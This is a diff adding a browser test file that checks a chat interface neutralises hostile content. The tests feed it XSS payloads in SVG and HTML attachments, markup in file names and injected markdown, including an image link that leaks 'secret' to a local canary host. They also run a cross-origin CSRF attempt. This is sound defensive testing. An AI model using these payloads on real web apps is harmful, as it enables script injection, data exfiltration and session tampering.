@@ -1,0 +1,137 @@
+"""Hardening 5, 6, 30–33 as seen by a browser: what comes from outside does nothing."""
+
+from __future__ import annotations
+
+import http.server
+import threading
+from collections.abc import Iterator
+
+import pytest
+from browser.desk import Desk
+from browser.samples import carried, picture
+from playwright.sync_api import expect
+
+SCRIPTED = b"""<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="window.hacked=1">
+<script>window.hacked=1; fetch("CANARY/svg")</script><image href="CANARY/image.png" width="9" height="9"/>
+<rect width="90" height="60" fill="teal"/></svg>"""
+PAGE = (
+    b"<html><body onload=\"fetch('CANARY/page')\"><script>window.hacked=1</script><img src=CANARY/i.png></body></html>"
+)
+NAMED = '<img src=x onerror="window.hacked=1">.png'
+
+
+class Canary(http.server.BaseHTTPRequestHandler):
+    heard: list[str]
+
+    def do_GET(self) -> None:
+        self.heard.append(self.path)
+        self.send_response(200)
+        self.end_headers()
+
+    def log_message(self, format: str, *args: object) -> None:
+        """Silent: `heard` tells."""
+
+
+@pytest.fixture
+def canary() -> Iterator[tuple[str, list[str]]]:
+    """Another origin, and whatever was asked of it."""
+    heard: list[str] = []
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), type("Here", (Canary,), {"heard": heard})) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{server.server_port}", heard
+        server.shutdown()
+        thread.join()
+
+
+def untouched(desk: Desk, heard: list[str]) -> None:
+    assert desk.page.evaluate("window.hacked") is None
+    assert heard == []
+    assert desk.foreign == []
+
+
+def test_31_hostile_markdown_and_html_in_an_answer_do_nothing(desk: Desk, canary: tuple[str, list[str]]) -> None:
+    address, heard = canary
+    lines = [
+        f"![secret]({address}/leak.png?q=secret)",
+        f'<img src="{address}/img.png" onerror="window.hacked=1"> <script>window.hacked=1</script>',
+        "[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)",
+        f'<iframe srcdoc="<script>parent.hacked=1</script>" src="{address}/frame"></iframe>',
+        f"<style>@import '{address}/style';</style> <b style='background:url({address}/bg)'>bold</b>",
+        "<details open ontoggle=window.hacked=1><summary>x</summary></details> <form action=/v1/logout><button>b</button>",
+        f"[ok]({address}/followed) <https://example.org>",
+    ]
+    answer = desk.say_and_hear("\n".join(f"!echo {line}" for line in lines))
+    expect(answer).to_contain_text("onerror")
+    assert (
+        answer.locator("script, iframe, style, form, details:not(.fold), .prose img, [onerror], [ontoggle]").count()
+        == 0
+    )
+    links = answer.locator(".prose a")
+    assert all(url.startswith(("http://", "https://")) for url in links.evaluate_all("(all) => all.map((a) => a.href)"))
+    assert links.evaluate_all("(all) => all.every((a) => a.target === '_blank' && a.rel.includes('noopener'))")
+    untouched(desk, heard)
+
+
+def test_31_a_file_name_with_markup_is_a_name(desk: Desk, canary: tuple[str, list[str]]) -> None:
+    desk.paste_files(carried(NAMED, picture("named")))
+    expect(desk.attachments).to_contain_text(NAMED)
+    desk.say_and_hear("Look at it")
+    expect(desk.asked.last).to_contain_text(NAMED)
+    desk.page.keyboard.press("Control+k")
+    expect(desk.page.get_by_role("dialog", name="Search")).to_be_visible()
+    untouched(desk, canary[1])
+
+
+@pytest.mark.parametrize(
+    ("name", "media_type", "data"), [("a.svg", "image/svg+xml", SCRIPTED), ("a.html", "text/html", PAGE)]
+)
+def test_30_a_hostile_file_runs_nowhere(
+    desk: Desk, canary: tuple[str, list[str]], name: str, media_type: str, data: bytes
+) -> None:
+    address, heard = canary
+    desk.paste_files(carried(name, data.replace(b"CANARY", address.encode()), media_type))
+    expect(desk.attachments).to_have_count(1)
+    expect(desk.page.locator("progress")).to_have_count(0)
+    if desk.send_button.is_enabled():
+        desk.say_and_hear("What is this?")
+    digests = desk.page.evaluate("[...document.images].map((i) => i.src).filter((s) => s.includes('/v1/media/'))")
+    for url in dict.fromkeys(url.partition("?")[0] for url in digests):
+        answer = desk.page.request.get(f"{url}?v=full")
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        assert "sandbox" in answer.headers["content-security-policy"]
+    untouched(desk, heard)
+
+
+def test_5_another_origin_can_change_nothing(desk: Desk, canary: tuple[str, list[str]]) -> None:
+    address, _ = canary
+    before = desk.daemon.ask("/v1/sessions")["sessions"]
+    other = desk.page.context.new_page()
+    other.goto(address)
+    sent = other.evaluate(
+        """async (url) => {
+          const send = (path, init) => fetch(url + path, { credentials: 'include', mode: 'no-cors', method: 'POST', ...init }).then(() => 1, () => 0);
+          await send('/v1/sessions', { body: '{"title": "stolen"}', headers: { 'Content-Type': 'text/plain' } });
+          await send('/v1/token/rotate', {});
+          return fetch(url + '/v1/sessions', { credentials: 'include' }).then((r) => r.status, () => 'refused');
+        }""",
+        desk.daemon.url,
+    )
+    assert sent in ("refused", 401, 403)
+    assert desk.daemon.ask("/v1/sessions")["sessions"] == before
+
+
+def test_6_the_token_is_nowhere_on_the_page(desk: Desk) -> None:
+    token = (desk.daemon.home / "state" / "token").read_text().strip()
+    assert token not in desk.page.content()
+    assert token not in desk.page.evaluate("JSON.stringify(localStorage) + document.cookie + location.href")
+    assert not any(token in url for url in desk.requests)
+
+
+def test_the_page_may_fetch_from_nowhere_else(desk: Desk, canary: tuple[str, list[str]]) -> None:
+    address, heard = canary
+    refused = desk.page.evaluate(
+        "(url) => fetch(url + '/x', { mode: 'no-cors' }).then(() => false, () => true)", address
+    )
+    assert refused
+    assert heard == []
